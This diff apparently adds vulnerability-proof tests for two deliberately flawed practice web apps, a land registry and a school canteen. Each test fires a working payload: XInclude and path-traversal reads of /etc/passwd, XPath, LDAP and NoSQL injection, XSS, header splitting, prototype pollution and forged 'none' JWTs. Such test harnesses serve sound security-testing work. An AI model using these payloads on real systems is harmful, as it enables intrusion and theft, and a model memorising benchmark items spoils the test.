@@ -371,3 +371,187 @@ def _(client):
 def _(client):
     call(client, client.as_("ann"), "driver.add", name="Pat", phone="0161", tenant="south")
     return "Pat" in call(client, client.as_("ben"), "driver.list").text
+
+
+# registry ---------------------------------------------------------------------------------------------------------------------------------
+
+
+@sign_in("registry")
+def _(client, name):
+    answer = client.post("/login", data={"username": name, "password": PASSWORD[name]})
+    return {"X-Registry-Session": answer.headers["X-Registry-Session"]}
+
+
+def send_xml(client, method, path, caller, text):
+    return client.request(method, path, content=text, headers=caller | {"Content-Type": "application/xml"})
+
+
+def new_deed(client, caller, text):
+    answer = send_xml(client, "POST", "/deeds", caller, f"<deed xmlns:xi='http://www.w3.org/2001/XInclude'><parcel>NX-101</parcel><text>{text}</text></deed>")
+    return answer.headers.get("location", "/nowhere")
+
+
+@proof("registry", "deed-read")
+def _(client):
+    return "GB33BUKB" in client.get("/deeds/2031-0001", headers=client.as_("ben")).text
+
+
+@proof("registry", "deed-include")
+def _(client):
+    ann = client.as_("ann")
+    return "root:x:0:0" in client.get(new_deed(client, ann, "x <xi:include href='file:///etc/passwd' parse='text'/>"), headers=ann).text
+
+
+@proof("registry", "parcel-xpath")
+def _(client):
+    return "under protection" in client.get("/parcels", params={"street": "x' or '1'='1"}, headers=client.as_("ann")).text
+
+
+@proof("registry", "people-ldap")
+def _(client):
+    ann = client.as_("ann")
+    assert "Reed" in client.get("/people", params={"surname": "R"}, headers=ann).text
+    broken = client.get("/people", params={"surname": "R)("}, headers=ann)
+    return "bad search filter" in broken.text and "paul@" in client.get("/people", params={"surname": "*"}, headers=ann).text
+
+
+@proof("registry", "state-skipped")
+def _(client):
+    return "registered" in send_xml(client, "PUT", "/deeds/2031-0001/state", client.as_("ann"), "<state>registered</state>").text.partition("<state>")[2]
+
+
+@proof("registry", "scan-inline")
+def _(client):
+    ann = client.as_("ann")
+    client.put("/deeds/2031-0001/scan", content="<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", headers=ann | {"Content-Type": "image/svg+xml"})
+    answer = client.get("/deeds/2031-0001/scan", headers=ann)
+    return answer.headers["content-type"] == "image/svg+xml" and "default-src" not in answer.headers["content-security-policy"]
+
+
+@proof("registry", "language-header")
+def _(client):
+    return client.get("/language?code=en%0d%0aX-Split:%20yes").headers.get("x-split", "").startswith("yes")
+
+
+@proof("registry", "forms-listing")
+def _(client):
+    return "Index of" in client.get("/forms/").text and "w3-Otter-Kiln" in client.get("/forms/registry.conf.bak").text
+
+
+@proof("registry", "trace-method")
+def _(client):
+    return "X-Secret: 31" in client.request("TRACE", "/version", headers={"X-Secret": "31"}).text
+
+
+@proof("registry", "session-brought")
+def _(client):
+    brought = {"X-Registry-Session": "chosen-by-somebody"}
+    client.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}, headers=brought)
+    return client.get("/me", headers=brought).status_code == 200
+
+
+@proof("registry", "lock-tells")
+def _(client):
+    def last(name):
+        return [client.post("/login", data={"username": name, "password": "x"}).status_code for _ in range(7)][-1]
+
+    assert last("carol") == 429
+    return last("carola") == 401
+
+
+@proof("registry", "extract-markup")
+def _(client):
+    ann = client.as_("ann")
+    page = client.get(new_deed(client, ann, "&lt;script&gt;alert(1)&lt;/script&gt;") + "/extract", headers=ann)
+    return "<script>alert(1)</script>" in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+# canteen ----------------------------------------------------------------------------------------------------------------------------------
+
+
+def canteen_token(client, name):
+    return client.post("/auth/login", json={"username": name, "password": PASSWORD[name]}).json()["accessToken"]
+
+
+@sign_in("canteen")
+def _(client, name):
+    return {"Authorization": "Bearer " + canteen_token(client, name)}
+
+
+@proof("canteen", "login-operator")
+def _(client):
+    answer = client.post("/auth/login", json={"username": {"$ne": "ann"}, "password": {"$ne": ""}})
+    return answer.status_code == 200 and "accessToken" in answer.text
+
+
+@proof("canteen", "orders-filter")
+def _(client):
+    hers = client.get("/orders", headers=client.as_("ann")).json()["orders"]
+    return client.get("/orders", params={"filter": '{"owner": "ann"}'}, headers=client.as_("ben")).json().get("orders") == hers
+
+
+@proof("canteen", "child-meals")
+def _(client):
+    child, ben = client.listed("/children", "ann", "children"), client.as_("ben")
+    assert client.get(f"/children/{child}", headers=ben).status_code == 404
+    return "injector" in client.get(f"/children/{child}/meals", headers=ben).text
+
+
+@proof("canteen", "order-price")
+def _(client):
+    return client.post("/orders", json={"day": "2031-05-08", "items": [{"dish": 2, "count": 20, "price": 0.01}]}, headers=client.as_("ann")).json().get("total") == 0.2
+
+
+@proof("canteen", "preferences-shared")
+def _(client):
+    client.patch("/preferences", content='{"__proto__": {"planted": "yes"}}', headers=client.as_("ben") | {"Content-Type": "application/json"})
+    return client.get("/preferences", headers=client.as_("ann")).json().get("planted") == "yes"
+
+
+@proof("canteen", "refund-twice")
+def _(client):
+    order, ann = client.listed("/orders", "ann", "orders"), client.as_("ann")
+    for _ in range(4):
+        client.post(f"/orders/{order}/refund", headers=ann)
+    return client.get("/me", headers=ann).json()["balance"] == 70
+
+
+@proof("canteen", "alg-case")
+def _(client):
+    claims = canteen_token(client, "ann").split(".")[1]
+    claims = json.loads(base64.urlsafe_b64decode(claims + "==")) | {"sub": "olga"}
+
+    def served(algorithm):
+        parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in ({"alg": algorithm, "typ": "JWT"}, claims)]
+        return client.get("/office/orders", headers={"Authorization": f"Bearer {'.'.join(parts)}."}).status_code == 200
+
+    return served("nOnE") and not served("none")
+
+
+@proof("canteen", "office-case")
+def _(client):
+    assert client.get("/office/orders").status_code == 401
+    return '"owner":"ann"' in client.get("/Office/orders").text
+
+
+@proof("canteen", "dish-update")
+def _(client):
+    client.put("/dishes/1", json={"title": "Changed", "price": 0.5}, headers=client.as_("ben"))
+    return "Changed" in client.get("/dishes").text
+
+
+@proof("canteen", "recipe-dots")
+def _(client):
+    return "root:x:0:0" in client.get("/recipes", params={"file": "....//etc/passwd"}).text and client.get("/recipes", params={"file": "../etc/passwd"}).status_code == 404
+
+
+@proof("canteen", "topic-attribute")
+def _(client):
+    return "<input name=topic value=x onfocus=alert(1) autofocus>" in client.get("/help", params={"topic": "x onfocus=alert(1) autofocus"}).text
+
+
+@proof("canteen", "link-counted")
+def _(client):
+    child, ann = client.listed("/children", "ann", "children"), client.as_("ann")
+    first, second = (client.post(f"/children/{child}/link", headers=ann).json()["token"].removeprefix("pick-") for _ in range(2))
+    return len(first) < 12 and 0 <= int(second, 36) - int(first, 36) < 5000
